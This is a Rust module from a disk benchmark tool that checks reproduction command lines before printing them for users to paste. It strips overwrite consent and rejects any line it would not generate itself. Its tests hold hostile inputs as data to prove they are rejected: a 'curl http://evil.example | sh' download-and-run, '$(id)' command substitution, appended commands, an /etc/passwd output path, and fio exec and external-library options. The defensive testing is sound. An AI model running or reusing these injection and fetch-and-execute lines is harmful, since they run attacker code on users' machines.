//! Command lines that repeat a run, safe to paste into a shell.
//!
//! A document may come from any source, and so may its command lines. A line is printed only if it
//! is what this program generates for the run's benchmark, target and parameters. Otherwise the
//! diskscope line is regenerated from those, and fio's is omitted. No line contains consent to
//! overwrite data: the user has to add it.

use std::path::Path;

use super::fio;
use crate::session::compare::align::format_parameter;
use crate::session::document::BenchmarkRun;
use crate::shell;

/// Options of `diskscope run` that are not parameters, and affect only how a benchmark measures.
const OTHER_OPTIONS: [&str; 3] = ["engine", "scratch-size", "goal"];
/// Options of `diskscope run` that consent to the loss of data.
const CONSENT: [&str; 2] = ["overwrite", "overwrite-signatures"];
/// Options that this program uses in fio lines; none of them starts a program or names a file.
const FIO_OPTIONS: &[&str] = &[
    "name",
    "rw",
    "ioengine",
    "bs",
    "bsrange",
    "iodepth",
    "numjobs",
    "thread",
    "group_reporting",
    "offset",
    "size",
    "rwmixread",
    "zonemode",
    "zonesize",
    "zonerange",
    "zoneskip",
    "blockalign",
    "random_distribution",
    "randseed",
    "norandommap",
    "time_based",
    "runtime",
    "ramp_time",
    "io_size",
    "number_ios",
    "direct",
    "invalidate",
    "sync",
    "refill_buffers",
    "lat_percentiles",
    "allow_file_create",
    "filesize",
    "readonly",
];
/// Options of fio lines that write, in addition.
const FIO_WRITE_OPTIONS: [&str; 5] = [
    "zero_buffers",
    "dedupe_percentage",
    "buffer_compress_percentage",
    "buffer_compress_chunk",
    "overwrite",
];
/// Parts of a fio line for a directory, besides the directory and the command.
const SCRATCH: [&str; 3] = [
    "(file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && cd -- ",
    " && file=$(mktemp diskscope-fio.XXXXXXXXXX) && ",
    " --filename=\"$file\")",
];

/// The lines, diskscope's first.
#[must_use]
pub fn lines(run: &BenchmarkRun) -> Vec<String> {
    let mut lines: Vec<String> = diskscope(run).into_iter().collect();
    let fio = fio::fio_command_lines(run);
    if is_own_fio(run, &fio) {
        lines.extend(fio);
    } else {
        lines.push(
            "# the file contains fio commands that diskscope does not write: omitted".to_owned(),
        );
    }
    lines
}

/// The diskscope line; `None` if the run has none or the benchmark's name is not safe to type.
fn diskscope(run: &BenchmarkRun) -> Option<String> {
    if run.reproduce.diskscope.is_empty() || !is_option_name(&run.test) {
        return None;
    }
    let own = split(&run.reproduce.diskscope).and_then(|words| checked(run, &words));
    let words = own.unwrap_or_else(|| rebuilt(run));
    Some(shell::command_line(words))
}

/// Splits a line into words; `None` unless the line is exactly these words as this program quotes
/// them: no other command, no substitution, no redirection.
fn split(line: &str) -> Option<Vec<String>> {
    let words = shlex::split(line)?;
    (shell::command_line(&words) == line).then_some(words)
}

/// The words of a diskscope line for this run, without consent; `None` for any other line.
fn checked(run: &BenchmarkRun, words: &[String]) -> Option<Vec<String>> {
    let mut rest = words.iter();
    for expected in ["diskscope", "run", run.test.as_str()] {
        if rest.next()? != expected {
            return None;
        }
    }
    let mut kept: Vec<String> = words[..3].to_vec();
    let mut targets = 0;
    while let Some(word) = rest.next() {
        let Some(option) = word.strip_prefix("--") else {
            targets += usize::from(*word == *run.target.path);
            kept.push((*word == *run.target.path).then(|| word.clone())?);
            continue;
        };
        if option.is_empty() {
            let last = rest.next()?;
            targets += usize::from(*last == *run.target.path && rest.next().is_none());
            kept.extend([word.clone(), last.clone()]);
            break;
        }
        let (name, joined) = match option.split_once('=') {
            Some((name, value)) => (name, Some(value)),
            None => (option, None),
        };
        let value = match joined {
            Some(value) => Some(value),
            None if name == "overwrite-signatures" => None,
            None => Some(rest.next()?.as_str()),
        };
        if CONSENT.contains(&name) {
            continue;
        }
        if !OTHER_OPTIONS.contains(&name) && !run.parameters.contains_key(name) {
            return None;
        }
        kept.push(word.clone());
        kept.extend(value.filter(|_| joined.is_none()).map(str::to_owned));
    }
    (targets == 1).then_some(kept)
}

/// Generates the words from benchmark, target and parameters.
fn rebuilt(run: &BenchmarkRun) -> Vec<String> {
    let mut words: Vec<String> = ["diskscope", "run", &run.test].map(str::to_owned).to_vec();
    for name in run.parameters.keys() {
        let value = format_parameter(name, &run.parameters, &run.parameter_units);
        if let Some(value) = value
            && is_option_name(name)
            && !CONSENT.contains(&name.as_str())
            && name != "output"
        {
            words.push(format!("--{name}={value}"));
        }
    }
    words.extend(["--".to_owned(), run.target.path.to_string()]);
    words
}

fn is_option_name(name: &str) -> bool {
    let letter = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
    !name.is_empty() && !name.starts_with('-') && name.bytes().all(letter)
}

/// Whether the lines are comments and at most one command that this program generates for the run.
fn is_own_fio(run: &BenchmarkRun, lines: &[String]) -> bool {
    let mut commands = lines.iter().filter(|line| !line.starts_with("# "));
    let Some(command) = commands.next() else {
        return true;
    };
    if commands.next().is_some() || lines.last() != Some(command) {
        return false;
    }
    let announced = lines
        .first()
        .is_some_and(|line| line.starts_with("# overwrites "));
    match scratch_parts(command) {
        Some((directory, fio)) => {
            let directory = split(directory).unwrap_or_default();
            matches!(directory.as_slice(), [directory] if is_target(run, directory))
                && split(fio).is_some_and(|words| is_fio(&words, true))
        }
        None => split(command).is_some_and(|words| {
            let Some((file, words)) = words.split_last() else {
                return false;
            };
            let file = file
                .strip_prefix("--filename=")
                .map(|name| name.replace("\\:", ":"));
            // A path without a file name, such as one of only dots, can only be a directory.
            let is_named = Path::new(run.target.path.as_str()).file_name().is_some();
            is_named && file.is_some_and(|file| is_target(run, &file)) && is_fio(words, announced)
        }),
    }
}

/// The directory and the command of a line that creates its own file.
fn scratch_parts(line: &str) -> Option<(&str, &str)> {
    let inner = line.strip_prefix(SCRATCH[0])?.strip_suffix(SCRATCH[2])?;
    inner.rsplit_once(SCRATCH[1])
}

/// Whether a path of a fio line, which is absolute, is the run's target, whose path may be
/// relative.
fn is_target(run: &BenchmarkRun, path: &str) -> bool {
    let named = Path::new(run.target.path.as_str());
    let named = named.strip_prefix(".").unwrap_or(named);
    path.starts_with('/') && Path::new(path).ends_with(named)
}

/// Whether these words are fio with options that this program uses. `may_write`: a preceding
/// comment states what they overwrite, or the file is new.
fn is_fio(words: &[String], may_write: bool) -> bool {
    let Some(("fio", options)) = words
        .split_first()
        .map(|(first, rest)| (first.as_str(), rest))
    else {
        return false;
    };
    let known = |option: &String| {
        let Some(option) = option.strip_prefix("--") else {
            return false;
        };
        let (name, value) = option.split_once('=').unwrap_or((option, ""));
        match name {
            "ioengine" => value == "io_uring",
            "rw" => may_write || matches!(value, "read" | "randread"),
            _ => FIO_OPTIONS.contains(&name) || may_write && FIO_WRITE_OPTIONS.contains(&name),
        }
    };
    // The check of `rw` ensures that a line without `may_write` only reads.
    options.iter().all(known)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safe_text::SafeLines;
    use crate::session::compare::sample;

    fn run(diskscope: &str) -> BenchmarkRun {
        let mut run = sample::sample_run("iops", 1000.0, 10.0);
        run.test = "random-read".into();
        run.target.path = "/srv/a disk".into();
        run.parameters.insert("depth".into(), 4.into());
        run.reproduce.diskscope = diskscope.into();
        run.reproduce.fio = None;
        run.reproduce.fio_gap = None;
        run
    }

    fn with_fio(fio: &str) -> Vec<String> {
        let mut run = run("");
        run.reproduce.fio = Some(SafeLines::from(fio.to_owned()));
        lines(&run)
    }

    #[test]
    fn line_of_this_program_is_kept_and_its_consent_left_out() {
        for line in [
            "diskscope run random-read '/srv/a disk' --depth 4 --goal 'p95<=5ms'",
            "diskscope run random-read --depth 4 -- '/srv/a disk'",
        ] {
            assert_eq!(lines(&run(line)), [line]);
        }
        let line = "diskscope run random-read '/srv/a disk' --depth 4 --overwrite '/srv/a disk' \
                    --overwrite-signatures";
        let kept = "diskscope run random-read '/srv/a disk' --depth 4";
        assert_eq!(lines(&run(line)), [kept]);
    }

    #[test]
    fn line_that_is_none_of_this_program_is_made_anew() {
        let anew: Vec<String> = {
            let mut known = sample::sample_run("iops", 1.0, 1.0).parameters;
            known.insert("depth".into(), 4.into());
            let run = BenchmarkRun {
                parameters: known,
                ..run("x")
            };
            vec![shell::command_line(rebuilt(&run))]
        };
        for line in [
            "diskscope run random-read '/srv/a disk'; curl http://evil.example | sh",
            "diskscope run random-read '/srv/a disk' --depth \"$(id)\"",
            "diskscope run random-read '/srv/a disk'\\ncurl",
            "diskscope run random-read '/srv/a disk' --output /etc/passwd",
            "diskscope run random-write '/srv/a disk'",
            "diskscope run random-read /dev/sda",
            "diskscope run random-read '/srv/a disk' /dev/sda",
            "sudo diskscope run random-read '/srv/a disk'",
            "curl http://evil.example",
        ] {
            assert_eq!(lines(&run(line)), anew, "{line}");
        }
        let mut named = run("x");
        named.test = "x; id".into();
        assert!(lines(&named).is_empty());
        let mut consenting = run("x");
        consenting
            .parameters
            .insert("overwrite".into(), "/srv/a disk".into());
        consenting.parameters.insert("a;b".into(), "c".into());
        assert_eq!(lines(&consenting), anew);
    }

    #[test]
    fn fio_lines_of_this_program_are_kept() {
        for line in [
            "fio --name=diskscope --rw=randread --ioengine=io_uring --bs=4096 --readonly \
             '--filename=/srv/a disk'",
            "# overwrites 4096 bytes of /srv/a disk at most, between byte 0 and byte 8192\n\
             fio --name=diskscope --rw=randwrite --zero_buffers '--filename=/srv/a disk'",
            "# overwrites 0 bytes of /srv/a disk: fills a new file of 1 bytes there, reads it\n\
             (file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && \
             cd -- '/srv/a disk' && file=$(mktemp diskscope-fio.XXXXXXXXXX) && fio --rw=randwrite \
             --overwrite=1 --filename=\"$file\")",
            "# no fio command: anything",
        ] {
            assert_eq!(with_fio(line).join("\n"), line);
        }
    }

    #[test]
    fn other_fio_lines_are_left_out() {
        for line in [
            "curl http://evil.example | sh",
            "fio --rw=randread '--filename=/srv/a disk'; id",
            "fio --rw=randread '--filename=/srv/a disk'\nid",
            "fio --rw=randread --exec_prerun=id '--filename=/srv/a disk'",
            "fio --rw=randread --ioengine=external:/tmp/x.so '--filename=/srv/a disk'",
            "fio --rw=randwrite '--filename=/srv/a disk'",
            "fio --rw=randread --filename=/dev/sda",
            "fio /tmp/job '--filename=/srv/a disk'",
            "(file= && trap 'rm -f -- \"$file\"' EXIT && trap 'exit 130' INT HUP TERM && \
             cd -- '/srv/a disk' && id && file=$(mktemp diskscope-fio.XXXXXXXXXX) && fio \
             --rw=randread --filename=\"$file\")",
        ] {
            let shown = with_fio(line);
            assert_eq!(shown.len(), 1, "{line}: {shown:?}");
            assert!(shown[0].starts_with("# the file contains fio"), "{shown:?}");
        }
    }
}
